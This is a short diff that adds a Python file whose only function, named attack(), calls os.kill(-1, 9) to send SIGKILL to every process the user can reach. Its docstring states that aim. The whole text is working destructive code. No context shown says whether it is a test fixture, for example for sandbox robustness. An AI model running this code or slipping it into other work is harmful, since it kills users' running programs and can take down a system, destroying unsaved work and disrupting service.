@@ -1,0 +1,6 @@
+"""End every process that can be reached."""
+import os
+
+
+def attack():
+    os.kill(-1, 9)
